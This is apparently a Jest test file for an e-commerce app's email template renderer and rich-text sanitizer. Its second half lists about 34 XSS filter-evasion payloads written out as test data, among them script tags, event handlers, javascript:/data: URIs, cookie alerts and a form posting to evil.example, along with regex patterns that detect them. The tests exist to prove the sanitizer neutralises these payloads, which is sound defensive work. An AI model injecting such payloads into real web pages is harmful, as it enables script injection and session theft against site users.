import { describe, expect, it } from '@jest/globals';
import { letterVariables } from '@callboard/shared';
import { sanitizeRichText } from '../../../lib/rich-text.js';
import { renderTemplate, type TemplateValues } from '../template-render.js';

const values: TemplateValues = {
  name: 'Ana García',
  order_number: '1042',
  total: '€49.90',
  currency: 'EUR',
  payment_link: 'https://pay.example.com/checkout?order=1042&amount=49.90',
  bank_account: 'IBAN ES91 2100 0418 4502 0005 1332',
  payment_instructions: { html: 'Pay at <a href="https://pay.example.com/x">pay.example.com</a>' },
  manager_name: 'Marta López',
  company_name: 'Callboard Shop',
  status: 'Reserved',
  message: 'Thanks for waiting',
  status_link: { html: '<a href="https://shop.example/s/abc">https://shop.example/s/abc</a>' },
  items: { html: '<table><tbody><tr><td>Online course</td><td>1</td></tr></tbody></table>' },
  tracking_number: '1Z999AA10123456784',
  delivery_date: '4 May 2026',
};

describe('renderTemplate', () => {
  it('substitutes every variable in the body and the subject', () => {
    const html = letterVariables.map((v) => `<p>${v}=&lt;$${v}&gt;</p>`).join('');
    const out = renderTemplate({ subject: 'Order <$order_number> for <$name>', html }, values);
    expect(out.missing).toEqual([]);
    expect(out.unknown).toEqual([]);
    expect(out.subject).toBe('Order 1042 for Ana García');
    expect(out.html).toContain('<p>name=Ana García</p>');
    expect(out.html).toContain('<p>order_number=1042</p>');
    expect(out.html).toContain('<p>total=€49.90</p>');
    expect(out.html).toContain('<p>currency=EUR</p>');
    expect(out.html).toContain('<p>payment_link=https://pay.example.com/checkout?order=1042&amp;amount=49.90</p>');
    expect(out.html).toContain('<p>bank_account=IBAN ES91 2100 0418 4502 0005 1332</p>');
    expect(out.html).toContain(
      '<p>payment_instructions=Pay at <a href="https://pay.example.com/x" rel="noopener noreferrer">pay.example.com</a></p>',
    );
    expect(out.html).toContain('<p>manager_name=Marta López</p>');
    expect(out.html).toContain('<p>company_name=Callboard Shop</p>');
    expect(out.html).toContain('<p>status=Reserved</p>');
    expect(out.html).toContain('<p>message=Thanks for waiting</p>');
    expect(out.html).not.toMatch(/\$\w+/);
  });

  it('accepts <$x> typed raw, escaped by the editor, and the {$x} synonym', () => {
    const out = renderTemplate(
      { subject: '{$name} / &lt;$name&gt; / <$name>', html: '<p><$name> | &lt;$name&gt; | {$name}</p>' },
      values,
    );
    expect(out.html).toBe('<p>Ana García | Ana García | Ana García</p>');
    expect(out.subject).toBe('Ana García / Ana García / Ana García');
  });

  it('puts a payment link into an href', () => {
    const out = renderTemplate({ subject: 's', html: '<p><a href="<$payment_link>">Pay now</a></p>' }, values);
    expect(out.html).toBe(
      '<p><a href="https://pay.example.com/checkout?order=1042&amp;amount=49.90" rel="noopener noreferrer">Pay now</a></p>',
    );
  });

  it('escapes values: a client named like an XSS payload arrives as text', () => {
    const out = renderTemplate(
      { subject: 'Hi <$name>', html: '<p>Dear <$name>,</p>' },
      { ...values, name: '<img src=x onerror=alert(1)>' },
    );
    expect(out.html).toBe('<p>Dear &lt;img src=x onerror=alert(1)&gt;,</p>');
    expect(out.html).not.toContain('<img');
    expect(out.text).toContain('Dear <img src=x onerror=alert(1)>,');
    // The subject is a plain-text header; the mailer encodes it.
    expect(out.subject).toBe('Hi <img src=x onerror=alert(1)>');
  });

  it('lists variables without a value and leaves them visible, never blank', () => {
    const out = renderTemplate(
      { subject: 'For <$manager_name>', html: '<p>Pay to <$bank_account> or {$payment_link}</p>' },
      { ...values, bank_account: null, payment_link: undefined, manager_name: null },
    );
    expect(out.missing.sort()).toEqual(['bank_account', 'manager_name', 'payment_link']);
    expect(out.html).toBe('<p>Pay to &lt;$bank_account&gt; or {$payment_link}</p>');
    expect(out.subject).toBe('For <$manager_name>');
  });

  it('lists unknown variables in both syntaxes', () => {
    const out = renderTemplate({ subject: '{$nmae}', html: '<p><$nmae> <$Name> {$order}</p>' }, values);
    expect(out.unknown.sort()).toEqual(['Name', 'nmae', 'order']);
    expect(out.missing).toEqual([]);
  });

  it('drops the paragraph of an optional variable left empty', () => {
    const out = renderTemplate(
      { subject: 's', html: '<p>Hello</p><p><$message></p><p>Bye {$message}</p>' },
      { ...values, message: '' },
    );
    expect(out.html).toBe('<p>Hello</p><p>Bye </p>');
    expect(out.missing).toEqual([]);
  });

  it('produces a plain-text part', () => {
    const out = renderTemplate(
      {
        subject: 's',
        html: '<h2>Your order</h2><p>Dear <$name>,</p><ul><li>one</li></ul><p><a href="<$payment_link>">Pay</a></p>',
      },
      values,
    );
    expect(out.text).toContain('Your order');
    expect(out.text).toContain('Dear Ana García,');
    expect(out.text).toContain('* one');
    expect(out.text).toContain('Pay [https://pay.example.com/checkout?order=1042&amount=49.90]');
  });
});

describe('sanitizeRichText', () => {
  it('keeps everything the editor produces', () => {
    const html =
      '<h1>T</h1><h2>T</h2><h3>T</h3><p>a<br />b <strong>s</strong> <em>e</em> <u>u</u> <s>x</s> <code>c</code></p>' +
      '<ul><li>1</li></ul><ol><li>2</li></ol><blockquote><p>q</p></blockquote><pre><code class="language-js">x</code></pre><hr />' +
      '<p><a href="https://example.com" target="_blank" rel="noopener noreferrer">l</a> <a href="mailto:a@b.c" rel="noopener noreferrer">m</a>' +
      ' <span data-variable="name">&lt;$name&gt;</span></p>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  // OWASP XSS filter evasion cheat sheet style payloads.
  const payloads = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
    '<IMG SRC="javascript:alert(\'XSS\');">',
    '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
    '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<img src=x onerror=alert(1)>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<svg/onload=alert(1)>',
    "<BODY ONLOAD=alert('XSS')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<form action="https://evil.example"><input type="submit" value="x"><button formaction="javascript:alert(1)">b</button></form>',
    '<p style="display:none">hidden</p><span style="background:url(javascript:alert(1))">s</span>',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD>x</TD></TABLE>',
    '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<p onclick="alert(1)">click</p>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    '<IMG SRC="jav\tascript:alert(\'XSS\');">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<span data-variable="name" onmouseover="alert(1)">x</span>',
    '<a href="/relative">rel</a><a href="//evil.example">proto</a>',
  ];

  it.each(payloads)('neutralises %s', (payload) => {
    const out = sanitizeRichText(payload);
    expect(out).not.toMatch(
      /<(script|img|svg|iframe|object|embed|form|input|button|style|meta|body|table|div|base|link|math)\b/i,
    );
    expect(out).not.toMatch(/\son\w+\s*=/i);
    expect(out).not.toMatch(/javascript:|vbscript:|data:/i);
    expect(out).not.toMatch(/style=/i);
    expect(out).not.toMatch(/href="(?!https?:|mailto:)/i);
    // Rendering the payload as a template must not bring any of it back either.
    const rendered = renderTemplate({ subject: 's', html: payload }, {}).html;
    expect(rendered).toBe(sanitizeRichText(rendered));
  });

  it('keeps the text of a link whose href was removed', () => {
    expect(sanitizeRichText('<a href="javascript:alert(1)">click</a>')).toBe('<a>click</a>');
  });
});
